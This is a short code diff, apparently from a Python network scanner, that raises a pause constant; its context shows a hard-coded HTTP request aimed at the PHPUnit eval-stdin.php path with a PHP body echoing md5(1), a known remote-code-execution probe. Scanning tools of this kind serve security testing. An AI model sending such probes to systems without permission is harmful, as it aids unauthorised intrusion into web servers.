@@ -18,7 +18,7 @@ import msgspec
 ANSWER_SECONDS = 0.030
 CONFIRM_SECONDS = 0.150
 GIVE_UP_SECONDS = 30.0
-PAUSE_SECONDS = 0.0002
+PAUSE_SECONDS = 0.0005
 
 PHPUNIT = (
     b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: a\r\nContent-Length: 18\r\n\r\n<?php echo md5(1);"
